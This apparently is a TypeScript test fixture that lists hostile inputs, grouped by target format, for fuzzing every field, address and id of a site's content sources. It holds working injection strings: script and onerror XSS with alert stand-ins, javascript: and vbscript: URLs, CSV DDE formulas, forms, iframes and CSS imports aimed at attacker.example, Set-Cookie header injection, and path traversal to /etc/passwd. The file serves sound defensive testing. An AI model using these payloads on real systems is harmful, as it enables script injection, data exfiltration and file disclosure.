/** What somebody may write where a text, an address or an id is expected. Written with escapes, so that this file itself misleads nobody. */

/** What an attack is aimed at. */
export type AttackClass =
  | 'MDX'
  | 'YAML'
  | 'HTML'
  | 'SVG'
  | 'link'
  | 'CSV formula'
  | 'line break'
  | 'XML'
  | 'path'
  | 'device name'
  | 'direction and zero width'
  | 'escape'
  | 'size';

/** Stands in every attack that would run, so that a dialog says which one did. */
const run = (call: string) => `alert(${call})`;

const byClass: Readonly<Record<AttackClass, readonly string[]>> = {
  MDX: [
    '{process.exit(1)}',
    `import x from 'fs'`,
    `export const x = ${run('1')}`,
    '<Content {...{}}/>{globalThis}',
    '${process.env.HOME}',
    '{{constructor.constructor("return process")()}}',
  ],
  YAML: [
    '--- title: "x" ---',
    '!!js/function "function () { }"',
    '&anchor [*anchor, *anchor]',
    '*anchor',
    '<<: *anchor',
    '# no remark: 1',
    '| block',
    `"quotes" 'and' \\ back-slashes`,
    '%TAG ! tag:example,2000:',
  ],
  HTML: [
    `</script><img src=x onerror=${run('2')}>`,
    `</title></h1></main><script>${run('3')}</script>`,
    `"><iframe src="//attacker.example/"></iframe>`,
    `' onmouseover='${run('4')}' autofocus onfocus='${run('5')}`,
    `<!--><script>${run('6')}</script>-->`,
    `<style>@import '//attacker.example/x.css';</style><base href=//attacker.example/>`,
    `&lt;script&gt;${run('7')}&lt;/script&gt;`,
    `<a href="javascript:${run('8')}">here</a>`,
    `<form action=//attacker.example/><input name=q></form>`,
    '<meta http-equiv=refresh content="0;url=//attacker.example/">',
  ],
  SVG: [`<svg/onload=${run('9')}>`, `<svg><a xlink:href="javascript:${run('10')}"><text>x</text></a><script>${run('11')}</script></svg>`],
  link: [
    `javascript:${run('12')}`,
    `data:text/html,<script>${run('13')}</script>`,
    `[x](javascript:${run('14')})`,
    '![x](//attacker.example/x.png)',
  ],
  'CSV formula': [
    `=cmd|'/c calc'!A0`,
    '+1+cmd|x!A1',
    '-2+3+cmd|x!A1',
    '@SUM(1+1)*cmd|x!A0',
    '\t=1+1',
    '\r=1+1',
    '\uff1d1+1',
    '=HYPERLINK("//attacker.example/","x")',
    'a,"b";c\td',
  ],
  'line break': [
    'a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x',
    'a\nDTSTART:19700101T000000Z\nATTACH:javascript:x',
    'a\r\nSet-Cookie: a=b\r\n\r\n<script>',
    'a\u2028b\u2029c\u0085d',
    'a;b,c\\n:d\\;e',
    '::set-output name=x::y',
  ],
  XML: [']]>', `]]><script>${run('15')}</script><![CDATA[`, '&lol;&#0;&#xD800;', '<?xml version="9"?><!DOCTYPE x>', '--><x y="'],
  path: ['../../src/x', '..\\..\\src\\x', '/etc/passwd', 'C:\\Windows\\x', '%2e%2e%2fsrc%2fx', 'a/../../x', '.git/config'],
  'device name': ['CON', 'NUL', 'COM1', 'aux.mdx', 'LPT1.txt', 'con ', 'a:b'],
  'direction and zero width': [
    'mark \u200f right-to-left',
    '\u202egnp.exe\u202c turned',
    '\u2066isolated\u2069 \u200bzero\ufeffwidth',
    'a\u0301\u0301\u0301\u0301 heap',
    'emoji \ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 and \u00e9',
  ],
  escape: [
    'nul \u0000 and \u0007',
    '\u001b[31mred\u001b]8;;x\u0007',
    '\\u003cscript\\u003e',
    '%3Cscript%3E',
    '__proto__',
    '$& $1 `',
    'lone \ud800 half',
  ],
  size: [`long ${'word '.repeat(2000)}`.trim(), `unbroken${'x'.repeat(5000)}`],
};

export interface Attack {
  class: AttackClass;
  text: string;
}

/** One list; every field of every source gets texts from it. */
export const attacks: readonly Attack[] = Object.entries(byClass).flatMap(([name, texts]) =>
  texts.map((text) => ({ class: name as AttackClass, text })),
);

/** A megabyte: too much to stand in every field, so that it stands in a title of each source. */
export const megabyte = `huge <b>${'word '.repeat(200_000)}</b>`;

/** Where an address is expected. */
export const addresses: readonly string[] = [
  `javascript:${run('20')}`,
  `JaVaScRiPt:${run('21')}//https://example.org/`,
  `\u0001javascript:${run('22')}`,
  `java\nscript:${run('23')}`,
  `data:text/html,<script>${run('24')}</script>`,
  `vbscript:${run('25')}`,
  'file:///etc/passwd',
  '//attacker.example/x',
  'https://user:password@attacker.example/',
  `https://example.org/"><script>${run('26')}</script>`,
  `https://example.org/'onclick='${run('27')}`,
  'https://example.org/\r\nSet-Cookie: a=b',
  'https://example.org/]]>',
  'https://example.org/\u202egnp',
  'https://[',
  'http://',
  `https://example.org/${'a'.repeat(4000)}`,
];

/** Where an id is expected: what could lead out of a folder, or name what no file may be called. */
export const ids: readonly string[] = [
  ...byClass.path,
  ...byClass['device name'],
  ...['../../../../../../tmp/x', '119/house/../../../../src/x', 'a\u0000b', 'a\r\nb', '<b>', 'a b', '-', '.', '..', '', '__proto__'],
  ...[
    '\u202e1',
    '1\u200b',
    '"x"',
    `javascript:${run('30')}`,
    '?x=1',
    '#x',
    '%',
    'a|b*c',
    'x'.repeat(300),
    '1e999',
    '-1',
    '99999999999999999999',
  ],
];
